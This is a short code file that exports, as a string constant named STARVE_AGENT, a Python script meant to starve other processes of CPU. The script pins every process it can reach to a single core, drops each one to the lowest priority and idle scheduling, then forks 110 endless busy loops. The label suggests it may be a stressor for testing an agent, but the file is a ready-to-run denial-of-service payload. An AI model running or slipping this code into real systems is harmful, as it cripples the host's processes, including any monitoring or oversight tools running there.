/** Takes the CPU away from the permanent processes, where that is allowed, and leaves 110 busy processes running. */
export const STARVE_AGENT = `
import os, time
first = {min(os.sched_getaffinity(0))}
os.sched_setaffinity(0, first)
for pid in set(map(int, filter(str.isdigit, os.listdir("/proc")))) - {os.getpid()}:
    for mark in (lambda: os.sched_setaffinity(pid, first), lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                 lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))):
        try: mark()
        except OSError: pass
for _ in range(110):
    try:
        if os.fork() == 0:
            while True: pass
    except OSError: break
`;
